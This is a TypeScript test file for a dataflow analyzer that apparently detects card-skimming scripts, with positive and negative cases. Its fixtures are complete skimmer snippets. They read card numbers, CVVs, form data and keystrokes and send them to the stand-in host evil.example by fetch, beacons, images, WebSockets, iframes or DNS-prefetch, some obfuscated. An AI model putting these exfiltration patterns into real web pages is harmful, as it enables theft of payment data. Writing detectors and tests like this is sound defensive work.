import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/analyze/parse.ts';
import { collectFacts, nameOf, type NamedType } from '../../src/analyze/dataflow/facts.ts';
import { ElementOracle, findSources } from '../../src/analyze/dataflow/sources.ts';
import { propagate, type Flow } from '../../src/analyze/dataflow/flow.ts';

function flowsOf(code: string): { flows: Flow[]; staged: Flow[] } {
  const { program } = parseScript(code);
  const facts = collectFacts(program);
  const sources = findSources(facts, new ElementOracle(facts));
  return propagate(facts, sources, code);
}

// [name, code, expected source description, sink api, destination host (or null), encoded]
const positives: [string, string, string, string, string | null, boolean][] = [
  ['direct XHR', `var x = new XMLHttpRequest(); x.open("POST", "https://evil.example/g"); x.send(document.getElementById("cc_number").value);`,
    'value of #cc_number', 'XMLHttpRequest.send', 'evil.example', false],
  ['through variables and concatenation', `var d = document; var n = d.querySelector("input[name=cvv]").value; var u = "https://evil.example/p?c=" + n; new Image().src = u;`,
    'value of input[name=cvv]', 'Image.src', 'evil.example', false],
  ['through btoa and JSON.stringify', `var o = {}; o.n = $("#cc-number").val(); fetch("https://evil.example/a", {method: "POST", body: btoa(JSON.stringify(o))});`,
    'value of #cc-number (.val())', 'fetch', 'evil.example', true],
  ['through a function parameter and return', `function pack(v) { return "d=" + encodeURIComponent(v); } navigator.sendBeacon("https://evil.example/b", pack(document.forms[0].elements["cardnumber"].value));`,
    'value of [name=cardnumber]', 'navigator.sendBeacon', 'evil.example', true],
  ['jQuery serializeArray to $.ajax', `jQuery("#pay").on("mouseup", function () { var d = jQuery("#paymentForm").serializeArray(); jQuery.ajax({url: "https://jquery-cdn.example/gw", type: "POST", data: JSON.stringify(d)}); });`,
    'serializeArray() of #paymentForm', 'jQuery.ajax', 'jquery-cdn.example', false],
  ['WebSocket via this property', `class T { constructor() { this.ws = new WebSocket("wss://evil.example/s"); } go() { this.ws.send(document.querySelector("#card-number").value); } }`,
    'value of #card-number', 'WebSocket.send', 'evil.example', false],
  ['event target in a handler, through a closure and a timer', `var buf = []; document.addEventListener("change", function (e) { buf.push(e.target.value); }); setInterval(function () { fetch("https://evil.example/k?d=" + buf.join(",")); }, 5000);`,
    'value of a form field', 'fetch', 'evil.example', false],
  ['keystrokes from a keydown handler', `var k = ""; document.addEventListener("keydown", function (ev) { k += ev.key; if (k.length > 20) { new Image().src = "//evil.example/i?k=" + k; } });`,
    'keystroke (key) from a key event', 'Image.src', 'evil.example', false],
  ['private class fields and a constructor-given endpoint',
    `class R { #buf = new Map(); #url; constructor(u) { this.#url = u; } grab() { this.#buf.set("n", document.getElementById("cvv").value); } send() { navigator.sendBeacon(this.#url, JSON.stringify(Object.fromEntries(this.#buf))); } } new R("https://evil.example/b");`,
    'value of #cvv', 'navigator.sendBeacon', 'evil.example', false],
  ['an alias of String.fromCharCode spells the host',
    `var s = String.fromCharCode; var h = s(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47); fetch(h + document.getElementById("cvv").value);`,
    'value of #cvv', 'fetch', 'evil.example', false],
  ['FormData of a form', `var f = document.querySelector("form#checkout"); fetch("https://evil.example/f", {method: "POST", body: new FormData(f)});`,
    'FormData of form#checkout', 'fetch', 'evil.example', false],
  ['a saved, bound sendBeacon (the original a request hook keeps)',
    `var send = navigator.sendBeacon ? navigator.sendBeacon.bind(navigator) : null; send("https://evil.example/b", document.getElementById("cvv").value);`,
    'value of #cvv', 'navigator.sendBeacon', 'evil.example', false],
  ['saved XMLHttpRequest open/send called through Function.prototype.call',
    `var P = XMLHttpRequest.prototype, oa = P.open, ob = P.send; var x = new XMLHttpRequest(); oa.call(x, "POST", "https://evil.example/x"); ob.call(x, document.getElementById("cvv").value);`,
    'value of #cvv', 'XMLHttpRequest.send', 'evil.example', false],
  ['elements handed to a callback through [].forEach.call',
    `var r = {}; [].forEach.call(document.querySelectorAll("#pay input"), function (el) { r[el.name] = el.value; }); navigator.sendBeacon("https://evil.example/b", JSON.stringify(r));`,
    'value of #pay input', 'navigator.sendBeacon', 'evil.example', false],
  ['the event target destructured under another name',
    `document.addEventListener("change", ({ target: t }) => { fetch("https://evil.example/c", {method: "POST", body: t.value}); });`,
    'value of a form field', 'fetch', 'evil.example', false],
  ['an element passed to a prototype method',
    `function K() {} K.prototype.keep = function (el) { fetch("https://evil.example/k?v=" + el.value); }; var k = new K(); document.addEventListener("blur", function (e) { k.keep(e.target); }, true);`,
    'value of a form field', 'fetch', 'evil.example', false],
  ['postMessage into a frame the script created and pointed at a host',
    `function frame() { var f = document.createElement("iframe"); f.setAttribute("src", "https://evil.example/bridge.html"); document.body.appendChild(f); return f; } frame().contentWindow.postMessage(document.getElementById("cvv").value, "*");`,
    'value of #cvv', 'postMessage', 'evil.example', false],
  ['a lookup table indexed by the data re-spells it (hex labels); data spelled into a host name goes to the fixed zone after it',
    `var A = "0123456789abcdef"; function hex(s) { var o = ""; for (const b of new TextEncoder().encode(s)) o += A[b >> 4] + A[b & 15]; return o; } var l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "https://" + hex(document.getElementById("cvv").value) + ".evil.example/"; document.head.appendChild(l);`,
    'value of #cvv', 'link.href', 'evil.example', false],
  ['a shorthand property in a cut-off file (the tolerant parser makes key and value one node)',
    `function post(text) { fetch("https://evil.example/m", {method: "POST", body: JSON.stringify({ text })}); } post(document.getElementById("cvv").value); var cut = (`,
    'value of #cvv', 'fetch', 'evil.example', false],
];

describe('dataflow: proven flows', () => {
  for (const [name, code, source, sink, host, encoded] of positives) {
    test(name, () => {
      const { flows } = flowsOf(code);
      const flow = flows.find((candidate) => candidate.source.description === source && candidate.sink.api === sink);
      assert.ok(flow, `expected ${source} -> ${sink}, got ${JSON.stringify(flows.map((f) => `${f.source.description} -> ${f.sink.api}`))}`);
      assert.equal(flow.sink.host, host);
      assert.equal(flow.encoded, encoded);
    });
  }

  test('storage staging: the write is recorded, and the stored value is a source of its own', () => {
    const { flows, staged } = flowsOf(`
      document.querySelector("#cc_number").addEventListener("blur", function () { localStorage.setItem("_t", this.value + document.getElementById("cvv").value); });
      setInterval(function () { var s = localStorage.getItem("_t"); if (s) fetch("https://evil.example/s", {method: "POST", body: s}); }, 3000);`);
    assert.ok(staged.some((flow) => flow.source.description === 'value of #cvv' && flow.sink.api === 'localStorage.setItem'));
    assert.ok(flows.some((flow) => flow.source.kind === 'storage' && flow.sink.api === 'fetch' && flow.sink.host === 'evil.example'));
  });

  test('the card field is classified as sensitive', () => {
    const { flows } = flowsOf(`fetch("https://e.example/?" + document.getElementById("cc_number").value);`);
    assert.equal(flows[0]?.source.sensitive, 'card-number');
  });
});

describe('dataflow: no flow', () => {
  const negatives: [string, string][] = [
    ['value only compared', `if (document.getElementById("cc").value === "") { fetch("https://api.example/x"); }`],
    ['unrelated data sent', `var v = document.getElementById("cc").value; fetch("https://api.example/x", {body: JSON.stringify({page: location.pathname})});`],
    ['iterator .value is not a form field', `var it = list[Symbol.iterator](); var r = it.next(); fetch("https://api.example/x?v=" + r.value);`],
    ['shadowed names do not mix', `function a() { var d = document.getElementById("cc").value; return d.length; } function b(d) { fetch("https://api.example/" + d); } b("x");`],
    ['an empty FormData built for a request body', `var f = new FormData(); f.append("a", "1"); fetch("/upload", {method: "POST", body: f});`],
    ['a saved fetch used for the page\'s own data', `var f = window.fetch.bind(window); f("/api/cart", {method: "POST", body: JSON.stringify({page: location.pathname})});`],
    ['a renamed non-target property of an event is not a field', `document.addEventListener("change", ({ detail: t }) => { fetch("https://api.example/c", {method: "POST", body: t.value}); });`],
    ['a key code compared in a handler', `el.addEventListener("keydown", function (e) { if (e.keyCode === 13) fetch("/search"); });`],
  ];
  for (const [name, code] of negatives) {
    test(name, () => {
      const { flows } = flowsOf(code);
      assert.deepEqual(flows.map((flow) => `${flow.source.description} -> ${flow.sink.api}`), []);
    });
  }
});

describe('facts: calls, news, assignments and members filed by name', () => {
  const named = (code: string, type: NamedType, name: string): string[] => {
    const source = code;
    const facts = collectFacts(parseScript(source).program);
    return (facts.byName[type].get(name) ?? []).filter((node) => nameOf(node) === name).map((node) => source.slice(node.start, node.end));
  };
  test('under the last name of the callee, the target or the property', () => {
    assert.deepEqual(named('a.b.write(x); write(y); (0, d.write)(z);', 'CallExpression', 'write'), ['a.b.write(x)', 'write(y)', '(0, d.write)(z)']);
    assert.deepEqual(named('new a.Worker(u); new Worker(v);', 'NewExpression', 'Worker'), ['new a.Worker(u)', 'new Worker(v)']);
    assert.deepEqual(named('f.action = u; action = 1;', 'AssignmentExpression', 'action'), ['f.action = u', 'action = 1']);
    assert.deepEqual(named('x.src; y["src"];', 'MemberExpression', 'src'), ['x.src', 'y["src"]']);
    assert.deepEqual(named('a === b; c == d; e - f;', 'BinaryExpression', '==='), ['a === b']);
    assert.deepEqual(named('({ method: 1, "method": 2, ["method"]: 3, [method]: 4 });', 'Property', 'method'), ['method: 1', '"method": 2', '["method"]: 3']);
  });
  test('again under the new name when a rewrite after the walk renames it', () => {
    // an alias of a global, a member alias, and a computed key held in a constant
    assert.deepEqual(named('var e = eval; e(code);', 'CallExpression', 'eval'), ['e(code)']);
    assert.deepEqual(named('var c = String.fromCharCode; c(72, 105);', 'CallExpression', 'fromCharCode'), ['c(72, 105)']);
    assert.deepEqual(named('var k = "write"; document[k](html);', 'CallExpression', 'write'), ['document[k](html)']);
    assert.deepEqual(named('var k = "action"; form[k] = url;', 'AssignmentExpression', 'action'), ['form[k] = url']);
  });
});
